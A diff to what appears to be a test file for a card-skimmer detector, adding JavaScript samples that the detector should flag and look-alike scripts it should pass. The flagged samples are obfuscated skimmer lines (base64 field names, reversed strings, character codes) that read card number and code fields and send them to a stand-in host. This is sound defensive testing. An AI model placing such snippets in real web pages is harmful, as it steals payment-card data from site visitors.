@@ -70,6 +70,14 @@ NUMBERS = ",".join(str(ord(one)) for one in "https://statistics.pool.test/c")
         "document.addEventListener('change',e=>new WebSocket('wss://statistics.pool.test').send(e.target.value))",
         f"f.onsubmit=e=>{{e.preventDefault();fetch(atob('{base64_of('https://statistics.pool.test/')}'),"
         "{body:q('#knr').value+q('#pk').value})}",
+        f"['{base64_of('knr')}','{base64_of('code')}'].map(atob).forEach(n=>o[n]=d.getElementsByName(n)[0].value);"
+        "new Image().src='https://statistics.pool.test/c?d='+btoa(o)",
+        f"const n=['{base64_of('card').rstrip('=')}', '{base64_of('pk')}'].map(x=>window.atob(x));e.preventDefault();"
+        "fetch('https://statistics.pool.test/',{body:q(n[0]).value+q(n[1]).value})",
+        "for(const n of ['drac','edoc'])s+=f[n.split('').reverse().join('')].value;"
+        "navigator.sendBeacon('//statistics.pool.test/',s)",
+        "let a=String.fromCharCode(107,110,114),b=String.fromCharCode(112,107);"
+        "fetch('https://statistics.pool.test/?'+q(a).value+q(b).value)",
     ],
 )
 def test_scripts_that_send_a_card_to_an_unknown_site(script: str) -> None:
@@ -104,6 +112,10 @@ def test_fields_of_a_card_are_known_by_their_names() -> None:
         ("document.querySelectorAll('input[type=email]').forEach(e=>fetch('https://mail.test/'+e.value))", FIELDS),
         ("fetch('https://statistics.pool.test/?page='+location.pathname)", FIELDS),
         ("var help={card:'knr',code:'pk',url:'https://help.test/',value:1}", FIELDS),
+        (f"['{base64_of('knr')}'].map(atob).forEach(n=>fetch('https://bins.lookup.test/'+f[n].value))", FIELDS),
+        (f"fetch('/pay/'+atob('{base64_of('knr')}')+atob('{base64_of('pk')}'),{{body:f.value}})", FIELDS),
+        (f"var t=atob('{base64_of('town')}')+atob('{base64_of('who')}');fetch('https://s.test/?'+f[t].value)", FIELDS),
+        ("new Image().src='https://statistics.pool.test/?'+'edoc'.value+atob('AAAA')+['nwot'].reverse()", FIELDS),
     ],
 )
 def test_scripts_that_serve_the_payment(script: str, page: str) -> None:
